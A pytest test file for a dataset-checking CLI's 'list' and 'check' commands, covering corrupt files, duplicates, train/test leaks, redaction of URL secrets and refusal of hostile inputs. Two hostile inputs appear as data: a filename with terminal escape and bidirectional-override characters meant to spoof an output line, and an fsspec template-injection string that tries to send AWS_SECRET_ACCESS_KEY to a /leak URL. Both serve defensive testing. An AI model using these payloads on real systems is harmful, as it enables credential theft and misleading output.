"""`pipeline data list` and `pipeline data check`: what is printed and written, exit codes, the next command."""

import csv
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner, Result
from PIL import Image

from pipeline.cli.main import cli
from tests.data.loopback import serve, website

Run = Callable[..., Result]
EVIL = "evil\x1b[31m\nverdict ok\u202egpj.png"


def write_noise(root: Path, count: int, size: tuple[int, int] = (20, 20)) -> Path:
    """Write pictures (width, height) of two classes, no two of them alike."""
    for seed, label in enumerate(("cat", "dog")):
        rng = np.random.default_rng([seed, *os.fsencode(root.name)])
        (root / label).mkdir(parents=True)
        for number in range(count):
            pixels = rng.integers(0, 256, (size[1], size[0]), np.uint8)
            Image.fromarray(pixels).save(root / label / f"{number:03d}.png")
    return root


def write_messy(root: Path) -> Path:
    """Write train/ and test/ of two classes with one of each thing that can be wrong."""
    write_noise(root / "train", 30)
    write_noise(root / "test", 10)
    cat, dog = root / "train" / "cat", root / "train" / "dog"
    copies = (root / "test" / "cat" / "leak.png", cat / "copy.png", cat / EVIL, cat / "wrong.jpg", dog / "conflict.png")
    for number, path in enumerate(copies):
        shutil.copy(cat / f"{number:03d}.png", path)
    (cat / "cut.png").write_bytes((cat / "000.png").read_bytes()[:60])
    (cat / "empty.png").write_bytes(b"")
    (cat / "note.txt").write_text("no picture")
    (cat / ".DS_Store").write_bytes(b"hidden")
    os.mkfifo(cat / "pipe.png")
    (root / "train" / "eel").mkdir()
    return root


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the messy set, a clean one, and the decoded images of both as they come."""
    folder = tmp_path_factory.mktemp("workspace")
    write_messy(folder / "messy")
    write_noise(folder / "clean", 20)
    return folder


@pytest.fixture
def run(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    monkeypatch.chdir(workspace)
    return lambda *arguments: CliRunner().invoke(cli, ["data", *arguments])


def test_list_names_every_set_with_its_licence_and_the_next_command(run: Run) -> None:
    done = run("list")
    assert done.exit_code == 0
    rows = {line.split()[0]: line for line in done.stdout.splitlines()[1:]}
    assert list(rows) == ["digits", "mnist", "fashion-mnist", "kmnist", "cifar10", "cifar100"]
    assert "1,797" in rows["digits"]
    assert "CC BY 4.0" in rows["digits"]
    assert "ships with scikit-learn" in rows["digits"]
    assert "Next: pipeline data check digits" in done.stderr


def test_list_as_json_has_numbers(run: Run) -> None:
    document = json.loads(run("list", "--json").stdout)
    assert document["schema"] == 1
    assert [(item["name"], item["num_images"], item["num_classes"]) for item in document["sets"]][-1] == (
        "cifar100", 60_000, 100,
    )  # fmt: skip


@pytest.mark.parametrize("data", ["none.npz", "cifar10"])
def test_a_table_of_images_that_are_no_files_is_refused_before_they_are_opened(run: Run, data: str) -> None:
    """An archive would be unpacked, a built-in set downloaded."""
    done = run("check", data, "--fix", "clean.csv")
    assert done.exit_code == 3
    assert f"--fix clean.csv: the images of {data} are not separate files" in done.stderr
    assert not Path("data").exists()


def test_an_array_beyond_the_cache_limit_is_refused_with_what_it_takes(run: Run) -> None:
    np.savez("large.npz", images=np.zeros((40, 9, 9), np.uint8), labels=np.arange(40) % 2)
    done = run("check", "large.npz", "--cache-limit", "1kb")
    assert done.exit_code == 5
    assert "--cache-limit is 0.0 GiB; expected 0.0 GiB for the unpacked images" in done.stderr


@pytest.mark.heavy
def test_check_as_json_counts_what_is_on_disk_and_refuses_a_leak(run: Run) -> None:
    done = run("check", "messy", "--json")
    found = json.loads(done.stdout)
    assert done.exit_code == 3
    assert (found["schema"], found["verdict"]) == (1, "refuse")
    files = found["files"]
    on_disk = [name for folder in os.walk("messy") for name in folder[2]]
    assert files["total"] == len(on_disk) == sum(number for kind, number in files.items() if kind != "total")
    assert [files[kind] for kind in ("used", "unsupported", "corrupt", "hidden", "not_regular")] == [85, 1, 2, 1, 1]
    assert found["classes"] == {"cat": 44, "dog": 41, "eel": 0}
    assert {item["code"] for item in found["bad"]} == {
        "corrupt", "empty", "unsupported", "not_regular", "odd_name", "wrong_extension"
    }  # fmt: skip
    assert [leak["splits"] for leak in found["leaks"]] == [["test", "train"]]
    assert found["label_conflicts"][0]["labels"] == ["cat", "dog"]
    assert any(f"train/cat/{EVIL}" in group for group in found["exact_duplicates"])


@pytest.mark.heavy
def test_check_prints_one_screen_in_which_a_name_cannot_fake_a_line(run: Run) -> None:
    done = run("check", "messy")
    assert done.exit_code == 3
    lines = done.stdout.splitlines()
    assert lines[0].startswith("files           90: 85 used, 1 unsupported, 2 corrupt, 1 hidden")
    assert "    train/cat/evil\\x1b[31m\\nverdict ok\\u202egpj.png: holds the control character U+001B" in lines
    assert [line for line in lines if line.startswith("verdict")] == [
        "verdict         refuse: a search would mislead; correct these points first"
    ]
    assert "\x1b" not in done.stdout
    assert "pipeline data check messy --fix clean.csv" in done.stderr
    assert "pipeline search" not in done.stderr


@pytest.mark.heavy
def test_fix_writes_a_table_that_can_be_searched_and_touches_no_image(run: Run) -> None:
    before = {path: path.stat().st_mtime_ns for path in Path("messy").rglob("*")}
    done = run("check", "messy", "--fix", "fixed.csv")
    assert done.exit_code == 3
    assert {path: path.stat().st_mtime_ns for path in Path("messy").rglob("*")} == before
    assert "fixed.csv: 79 images, without\n    3 no usable picture\n    2 copies of one picture" in done.stdout
    assert "Next: pipeline search fixed.csv" in done.stderr
    with Path("fixed.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 79
    assert sum(row["split"] == "test" for row in rows) == 21
    again = run("check", "fixed.csv", "--json")
    found = json.loads(again.stdout)
    assert (again.exit_code, found["files"]["used"], found["files"]["total"]) == (0, 79, 79)
    assert "--fix" not in again.stderr
    assert found["leaks"] == found["label_conflicts"] == found["exact_duplicates"] == found["near_duplicates"] == []


@pytest.mark.heavy
def test_a_clean_folder_is_ok_and_the_page_is_written(run: Run) -> None:
    done = run("check", "clean", "--html", "check.html")
    assert done.exit_code == 0
    assert "verdict         ok: nothing stands in the way of a search" in done.stdout
    assert "page: check.html" in done.stdout
    assert "Next: pipeline search clean  # " in done.stderr
    page = Path("check.html").read_text(encoding="utf-8")
    assert page.startswith("<!doctype html>")
    assert page.count("<img ") == 24


@pytest.mark.heavy
def test_options_of_the_decoder_reach_it(run: Run, tmp_path: Path) -> None:
    write_noise(tmp_path / "wide", 12, (40, 20))
    Image.new("L", (1200, 1000)).save(tmp_path / "wide" / "cat" / "large.png")
    done = run("check", str(tmp_path / "wide"), "--json", "--image-size", "16", "--max-megapixels", "1")
    found = json.loads(done.stdout)
    assert (found["image"]["height"], found["image"]["width"]) == (8, 16)
    assert [(item["path"], item["code"]) for item in found["bad"]] == [("cat/large.png", "too_large")]
    assert found["files"]["too_large"] == 1


@pytest.mark.heavy
def test_limits_hold_where_no_image_can_be_read(run: Run, tmp_path: Path) -> None:
    for name in ("a", "b"):
        (tmp_path / "large" / name).mkdir(parents=True)
        Image.fromarray(np.zeros((1200, 1200), np.uint8)).save(tmp_path / "large" / name / "0.png")
    done = run("check", str(tmp_path / "large"), "--json", "--image-size", "16", "--max-megapixels", "1")
    found = json.loads(done.stdout)
    assert [item["code"] for item in found["bad"]] == ["too_large", "too_large"]
    assert (found["image"]["height"], found["image"]["max_megapixels"]) == (16, 1)


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (("--fix", "clean.txt"), "--fix clean.txt: the ending '.txt' is not supported; use .csv, .parquet, .jsonl"),
        (("--html", "clean/cat/000.png"), "the ending '.png' is not supported; use .html, .htm"),
        (("--cache-limit", "20"), "'20' is not a size; write a number with a unit, such as 500MB, 20GB or 1.5GiB"),
        (("--background", "white"), "'white' is not a colour; write #rrggbb"),
    ],
)
def test_wrong_options_are_usage_errors(run: Run, arguments: tuple[str, ...], message: str) -> None:
    done = run("check", "clean", *arguments)
    assert done.exit_code == 2
    assert message in done.stderr


def test_a_fix_of_an_array_is_refused_before_anything_is_decoded(run: Run) -> None:
    images, labels = np.zeros((6, 8, 8), np.uint8), np.array([0, 1] * 3)
    np.savez("set.npz", images=images, labels=labels)
    done = run("check", "set.npz", "--fix", "array.csv")
    assert done.exit_code == 3
    assert "the images of set.npz are not separate files" in done.stderr
    assert not Path("array.csv").exists()


def test_data_itself_is_never_overwritten(run: Run) -> None:
    Path("table.csv").write_text("path,label\n")
    done = run("check", "table.csv", "--fix", "./table.csv")
    assert done.exit_code == 2
    assert "--fix table.csv: this is DATA itself" in done.stderr
    assert Path("table.csv").read_text() == "path,label\n"


@pytest.mark.heavy
def test_secrets_of_urls_are_shown_nowhere_and_private_machines_are_named_first(run: Run) -> None:
    pictures = {
        f"/{number}.png": path.read_bytes() for number, path in enumerate(sorted(Path("clean").glob("*/*.png")))
    }
    with serve({f"{name}?sig=SECRET": content for name, content in pictures.items()}) as address:
        rows = [
            (address.replace("//", "//me:PASSWORD@") + f"{name}?sig=SECRET", number % 2)
            for number, name in enumerate(pictures)
        ]
        Path("urls.csv").write_text("path,label\n" + "".join(f"{path},{label}\n" for path, label in rows))
        refused = run("check", "urls.csv")
        assert refused.exit_code == 3
        assert "refused         40 (ignored)" in refused.stdout
        assert "if you trust it, add --allow-host 127.0.0.1" in refused.stderr
        done = run(
            "check", "urls.csv", "--allow-host", "127.0.0.1", "--html", "urls.html", "--json", "--fix", "fixed.csv"
        )
    assert json.loads(done.stdout)["files"]["used"] == 40
    assert "pipeline search fixed.csv --allow-host 127.0.0.1" in done.stderr
    shown = [refused.output, done.output, Path("urls.html").read_text()]
    assert not any(secret in text for text in shown for secret in ("PASSWORD", "SECRET"))
    assert Path("fixed.csv").read_text().count("me:PASSWORD@") == 40
    for index in Path("mlruns/cache/images").glob("*/index.parquet"):
        assert b"SECRET" not in index.read_bytes()


@pytest.mark.heavy
def test_a_table_cannot_send_secrets_of_the_environment_away(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """A chain of fsspec expands templates, which reach os.environ; neither the parent nor a child follows it."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "TOPSECRET")
    with website({}) as (address, asked):
        template = "{{t.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]}}"
        reference = {"version": 1, "templates": {"t": "{{x}}"}, "refs": {"x": [f"{address}/leak?k={template}"]}}
        Path("ref.json").write_text(json.dumps(reference))
        for place in (f"reference://x::{address}/ref.json", f"reference://x::file://{Path('ref.json').absolute()}"):
            Path("evil.csv").write_text(f'path,label\nclean/cat/000.png,cat\n"{place}",dog\n')
            done = run("check", "evil.csv", "--allow-host", "127.0.0.1")
            assert done.exit_code == 3
            assert "evil.csv, row 2: reference://x::" in done.stderr
    assert asked == []
